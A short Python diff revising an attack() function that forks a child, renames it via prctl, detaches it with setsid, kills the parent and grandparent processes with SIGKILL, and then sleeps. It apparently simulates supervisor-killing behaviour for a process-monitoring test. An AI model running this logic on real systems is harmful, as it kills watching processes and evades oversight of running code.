@@ -11,13 +11,11 @@ LIBC = ctypes.CDLL(None, use_errno=True)
 
 
 def attack():
+    watching = (os.getppid(), os.getpid())
     if LIBC.fork() == 0:
         LIBC.prctl(15, PLACES["mark"].encode())
         LIBC.setsid()
-        parent = os.getppid()
-        with open(f"/proc/{parent}/stat") as file:
-            above = int(file.read().rpartition(")")[2].split()[1])
-        for pid in (above, parent):
+        for pid in watching:
             if pid > 1:
                 LIBC.kill(pid, 9)
         LIBC.sleep(300)
